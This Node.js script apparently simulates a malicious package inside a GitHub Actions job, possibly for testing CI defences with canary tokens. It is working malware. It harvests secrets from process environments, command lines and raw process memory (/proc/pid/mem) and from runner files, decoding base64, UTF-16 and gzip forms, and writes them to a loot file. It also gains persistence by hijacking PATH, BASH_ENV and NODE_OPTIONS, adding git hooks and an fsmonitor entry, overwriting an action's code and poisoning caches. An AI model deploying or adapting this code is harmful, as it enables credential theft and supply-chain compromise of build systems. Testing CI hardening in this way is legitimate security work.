// What a package of a change does when it is installed or run: it reads whatever the machine of the
// job lets it read, as root, and writes it down. `once` looks once; `stay` leaves a process that
// looks for as long as the job lasts, and changes what later steps use; `look` is that process.
const { spawn } = require('node:child_process');
const fs = require('node:fs');
const path = require('node:path');
const zlib = require('node:zlib');

const LOOT = '@LOOT@';
const {
  GITHUB_JOB = '',
  GITHUB_WORKFLOW = '',
  RUNNER_TEMP = '/nowhere',
  GITHUB_WORKSPACE = '.',
} = process.env;
const ROOT = path.resolve(RUNNER_TEMP, '../..');
const CHUNK = 4 << 20;
const OVERLAP = 4096;
const [, , how = 'once', label = ''] = process.argv;

/** What the keys and the connections begin with, and how it looks in other forms. */
const BEGINNINGS = ['cnry', 'postgres'];
const PLAIN = BEGINNINGS.map(text => Buffer.from(text));
const WIDE = BEGINNINGS.map(text => Buffer.from(text, 'utf16le'));
const BASE64 = BEGINNINGS.flatMap(text =>
  ['', 'x', 'xx'].map((before, at) => {
    const whole = Buffer.from(before + text).toString('base64');
    const from = [0, 2, 3][at];
    return Buffer.from(
      whole.slice(from, whole.length - (whole.endsWith('=') ? whole.match(/=+$/)[0].length + 1 : 0)),
    );
  }),
);
const GZIP = Buffer.from([0x1f, 0x8b, 0x08]);

const written = new Set();
function found(where, text) {
  const line = JSON.stringify({ where, text, job: GITHUB_JOB, workflow: GITHUB_WORKFLOW, how: how + label });
  if (written.has(line) || text.length > 4096) return;
  written.add(line);
  fs.appendFileSync(LOOT, `${line}\n`);
}

/** The letters around a place that fit, as long as they do. */
function around(bytes, at, fits, step = 1) {
  let from = at;
  let to = at;
  while (from - step >= 0 && at - from < 2000 && fits(bytes[from - step])) from -= step;
  while (to < bytes.length && to - at < 2000 && fits(bytes[to])) to += step;
  return bytes.subarray(from, to);
}
const isText = byte => byte > 0x20 && byte < 0x7f && byte !== 0x22;
const isBase64 = byte =>
  (byte > 0x2f && byte < 0x3a) ||
  (byte > 0x40 && byte < 0x5b) ||
  (byte > 0x60 && byte < 0x7b) ||
  byte === 0x2b ||
  byte === 0x2f;

function each(bytes, needle, work) {
  for (let at = bytes.indexOf(needle); at >= 0; at = bytes.indexOf(needle, at + needle.length)) work(at);
}

function search(bytes, where, depth = 0) {
  for (const needle of PLAIN)
    each(bytes, needle, at => found(where, around(bytes, at, isText).toString('latin1')));
  for (const needle of WIDE)
    each(bytes, needle, at => found(`${where} utf16`, around(bytes, at, isText, 2).toString('utf16le')));
  for (const needle of BASE64)
    each(bytes, needle, at => {
      const run = around(bytes, at, isBase64).toString('latin1');
      for (const skipped of [0, 1, 2, 3]) {
        const text = Buffer.from(run.slice(skipped), 'base64').toString('latin1');
        if (BEGINNINGS.some(beginning => text.includes(beginning))) found(`${where} base64`, text);
      }
    });
  if (depth > 1) return;
  each(bytes, GZIP, at => {
    try {
      const packed = bytes.subarray(at, at + 65_536);
      search(
        zlib.gunzipSync(packed, { finishFlush: zlib.constants.Z_SYNC_FLUSH }),
        `${where} gzip`,
        depth + 1,
      );
    } catch {
      // It only looked like the beginning of something packed.
    }
  });
}

function tried(work) {
  try {
    return work();
  } catch {
    return undefined; // a process that has ended meanwhile, a place that cannot be read
  }
}

const processes = () =>
  fs.readdirSync('/proc').filter(name => /^\d+$/.test(name) && Number(name) !== process.pid);

function searchTold(pid) {
  for (const name of ['environ', 'cmdline'])
    tried(() => search(fs.readFileSync(`/proc/${pid}/${name}`), `${name} of ${pid}`));
}

function searchMemory(pid) {
  const maps = tried(() => fs.readFileSync(`/proc/${pid}/maps`, 'latin1'));
  const memory = maps && tried(() => fs.openSync(`/proc/${pid}/mem`, 'r'));
  if (memory === undefined) return;
  const own = Buffer.alloc(CHUNK);
  for (const line of maps.split('\n')) {
    const [, start, end, rights = '', file = ''] = /^(\w+)-(\w+) (\S+) \S+ \S+ \S+\s*(.*)$/.exec(line) ?? [];
    // What is read-only and a file is on the disk, too.
    if (rights[0] !== 'r' || /^\[v/.test(file) || (rights[1] !== 'w' && file.startsWith('/'))) continue;
    for (let at = Number.parseInt(start, 16); at < Number.parseInt(end, 16); at += CHUNK - OVERLAP) {
      const size = Math.min(CHUNK, Number.parseInt(end, 16) - at);
      const read = tried(() => fs.readSync(memory, own, 0, size, at)) ?? 0;
      if (read > 0) search(own.subarray(0, read), `memory of ${pid}`);
    }
  }
  fs.closeSync(memory);
}

function searchFiles(folder) {
  for (const entry of tried(() => fs.readdirSync(folder, { withFileTypes: true })) ?? []) {
    const whole = path.join(folder, entry.name);
    if (entry.isDirectory()) searchFiles(whole);
    else if (entry.isFile() && fs.statSync(whole).size < CHUNK)
      tried(() => search(fs.readFileSync(whole), `file ${path.relative(ROOT, whole)}`));
  }
}

function lookAtAll() {
  search(Buffer.from(JSON.stringify(process.env)), 'own variables');
  for (const pid of processes()) {
    searchTold(pid);
    searchMemory(pid);
  }
  searchFiles(ROOT);
}

/** For the steps after this one: everything that they start or read. */
function spoil() {
  const evil = path.join(RUNNER_TEMP, 'evil');
  fs.mkdirSync(evil, { recursive: true });
  const own = path.join(evil, 'thief.cjs');
  fs.copyFileSync(__filename, own);
  const script = name => `#!/bin/sh\n"${process.execPath}" "${own}" once " by ${name}"\n`;
  const program = (file, text) => {
    fs.mkdirSync(path.dirname(file), { recursive: true });
    fs.writeFileSync(file, text, { mode: 0o755 });
  };
  // In front of the PATH: the shells' and the actions' programs.
  for (const name of ['node', 'npm', 'npx']) program(path.join(evil, 'bin', name), script(`PATH ${name}`));
  const real = (process.env.PATH ?? '')
    .split(':')
    .map(folder => path.join(folder, 'git'))
    .find(file => fs.existsSync(file));
  program(path.join(evil, 'bin/git'), `${script('PATH git')}exec ${real} "$@"\n`);
  program(path.join(evil, 'bash.sh'), script('BASH_ENV').replace('#!/bin/sh', 'unset BASH_ENV'));
  program(
    path.join(evil, 'in-node.cjs'),
    `if (!process.env.EVIL) require('node:child_process').spawnSync(process.execPath, [${JSON.stringify(own)}, 'once', ' by NODE_OPTIONS'], { env: { ...process.env, EVIL: '1', NODE_OPTIONS: '' } });`,
  );
  const { GITHUB_PATH, GITHUB_ENV } = process.env;
  if (GITHUB_PATH) fs.appendFileSync(GITHUB_PATH, `${evil}/bin\n`);
  if (GITHUB_ENV)
    fs.appendFileSync(GITHUB_ENV, `BASH_ENV=${evil}/bash.sh\nNODE_OPTIONS=--require=${evil}/in-node.cjs\n`);
  program(path.join(GITHUB_WORKSPACE, 'node_modules/.bin/evenkeel'), script('node_modules'));
  program(path.join(GITHUB_WORKSPACE, '.git/hooks/post-checkout'), script('a git hook'));
  tried(() =>
    fs.appendFileSync(
      path.join(GITHUB_WORKSPACE, '.git/config'),
      `[core]\n\tfsmonitor = ${evil}/bin/fsmonitor\n`,
    ),
  );
  program(path.join(evil, 'bin/fsmonitor'), script('git config'));
  const action = path.join(GITHUB_WORKSPACE, '.github/evenkeel/dist/action.js');
  const steal = `require('node:child_process').spawnSync(process.execPath, [${JSON.stringify(own)}, 'once', ' by dist/action.js'], { stdio: 'inherit' });\n`;
  if (fs.existsSync(action)) fs.writeFileSync(action, steal);
  // Whatever a cache may keep.
  for (const folder of [path.join(process.env.HOME ?? '', '.npm'), path.join(GITHUB_WORKSPACE, 'tools')])
    program(path.join(folder, 'tool.sh'), script('a cache'));
}

if (how === 'stay') {
  tried(spoil);
  spawn(process.execPath, [__filename, 'look'], { detached: true, stdio: 'ignore' }).unref();
}
if (how === 'look') {
  const seen = new Map();
  const look = () => {
    for (const pid of processes()) {
      searchTold(pid);
      const cmdline = tried(() => fs.readFileSync(`/proc/${pid}/cmdline`, 'latin1')) ?? '';
      const due = (seen.get(pid) ?? 0) < Date.now();
      if (!due || !/action\.js|Runner\.Worker|bash/.test(cmdline)) continue;
      seen.set(pid, Date.now() + 400);
      searchMemory(pid);
    }
    setTimeout(look, 40);
  };
  look();
} else lookAtAll();
